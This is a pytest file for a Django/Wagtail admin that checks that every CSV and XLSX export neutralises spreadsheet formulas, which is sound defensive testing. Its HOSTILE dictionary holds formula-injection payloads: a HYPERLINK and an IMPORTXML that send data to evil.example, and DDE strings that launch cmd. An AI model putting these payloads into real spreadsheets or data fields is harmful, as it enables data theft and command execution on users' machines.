"""Every spreadsheet the admin offers neutralises formulas (issue 16).

The test walks the URL configuration for every view that can export (Wagtail's
list and report exports, our viewsets) and every table of the committee's
reports, plants text that a spreadsheet would run, and reads every cell back.
"""

import csv
import io

import openpyxl
import pytest
from django.urls import URLResolver, get_resolver, reverse
from django.utils import timezone
from wagtail.admin.views.mixins import SpreadsheetExportMixin

from campaigns.models import OrganisationKind, RegionKind
from schedules.reports.exports import TABLE_NAMES
from schedules.spreadsheets import FORMULA_STARTS, formula_guard
from tests import factories

pytestmark = pytest.mark.django_db

HOSTILE = {
    "session": '=HYPERLINK("http://evil.example/?x="&A1,"Xem")',
    "venue": "\t=cmd|' /C calc'!A0",
    "region": "-2+3+cmd|' /C calc'!A0",
    "commune": '+IMPORTXML("http://evil.example","//a")',
    "page": "@SUM(1+1)*cmd|' /C calc'!A0",
    "user": "=cmd|' /C notepad'!A0",
    "unit": "\r=1+1",
}


def export_views():
    """(url name, view class) of every admin view that offers an export."""

    def walk(patterns, namespace=None):
        for pattern in patterns:
            if isinstance(pattern, URLResolver):
                inner = pattern.namespace
                if inner and namespace:
                    inner = f"{namespace}:{inner}"
                yield from walk(pattern.url_patterns, inner or namespace)
                continue
            view = pattern.callback
            view_class = getattr(view, "view_class", None)
            if not view_class or not issubclass(view_class, SpreadsheetExportMixin):
                continue
            initkwargs = getattr(view, "view_initkwargs", {})
            if not (initkwargs.get("list_export") or view_class.list_export):
                continue
            if pattern.pattern.regex.groups or pattern.name.endswith("results"):
                continue
            name = f"{namespace}:{pattern.name}" if namespace else pattern.name
            yield name, view_class

    return sorted(set(walk(get_resolver().url_patterns)))


def cells(response, export_format):
    body = (
        b"".join(response.streaming_content)
        if response.streaming
        else (response.content)
    )
    if export_format == "csv":
        text = body.decode("utf-8-sig")
        return [value for row in csv.reader(io.StringIO(text)) for value in row]
    book = openpyxl.load_workbook(io.BytesIO(body))
    return [
        cell.value
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    ]


def assert_guarded(values, where):
    for value in values:
        if isinstance(value, str):
            assert not value.startswith(FORMULA_STARTS), (where, value)


@pytest.fixture
def hostile(admin_user):
    admin_user.first_name = HOSTILE["user"]
    admin_user.save()
    province = factories.province()
    region = factories.RegionFactory(
        parent=province, code="399", name=HOSTILE["region"], border=True
    )
    commune = factories.RegionFactory(
        parent=region, code="16003", name=HOSTILE["commune"], kind=RegionKind.COMMUNE
    )
    campaign = factories.CampaignPageFactory()
    unit = factories.OrganisationFactory(
        name=HOSTILE["unit"], kind=OrganisationKind.WOMENS_UNION, region=region
    )
    factories.SessionFactory(
        held=True,
        campaign=campaign,
        organisation=unit,
        region=commune,
        title=HOSTILE["session"],
        venue=HOSTILE["venue"],
        attendance_total=40,
    )
    page = factories.MessagePageFactory(campaign=campaign, title=HOSTILE["page"])
    factories.publish_checked(
        page.save_revision(user=admin_user, log_action=True), user=admin_user
    )
    page.refresh_from_db()
    page.locked, page.locked_by, page.locked_at = True, admin_user, timezone.now()
    page.save()
    return admin_user


def test_every_admin_export_neutralises_formulas(client, hostile):
    client.force_login(hostile)
    views = export_views()
    names = {name for name, _view in views}
    # The walk finds what the admin offers, ours and Wagtail's.
    assert {
        "sessions:index",
        "wagtailadmin_reports:locked_pages",
        "wagtailadmin_reports:aging_pages",
        "wagtailadmin_reports:site_history",
    } <= names
    seen = []
    for name, _view in views:
        for export_format in ("csv", "xlsx"):
            response = client.get(reverse(name), {"export": export_format})
            assert response.status_code == 200, (name, export_format)
            values = cells(response, export_format)
            assert_guarded(values, (name, export_format))
            seen += values
    for key in ("session", "venue", "commune", "page", "user", "unit"):
        assert formula_guard(HOSTILE[key]) in seen, key


def test_every_report_table_neutralises_formulas(client, hostile):
    client.force_login(hostile)
    seen = cells(client.get(reverse("schedules_reports:xlsx")), "xlsx")
    for table in TABLE_NAMES:
        response = client.get(reverse("schedules_reports:csv"), {"table": table})
        if table == "comparison" and response.status_code == 404:
            continue  # offered only when there is an earlier campaign to compare
        assert response.status_code == 200, table
        seen += cells(response, "csv")
    assert_guarded(seen, "reports")
    assert formula_guard(HOSTILE["region"]) in seen
    assert formula_guard(HOSTILE["unit"]) in seen


@pytest.mark.parametrize("value", list(HOSTILE.values()) + ["-5", "=", "@"])
def test_the_guard_leaves_no_formula(value):
    assert not formula_guard(value).startswith(FORMULA_STARTS)
    assert formula_guard(value).endswith(value)
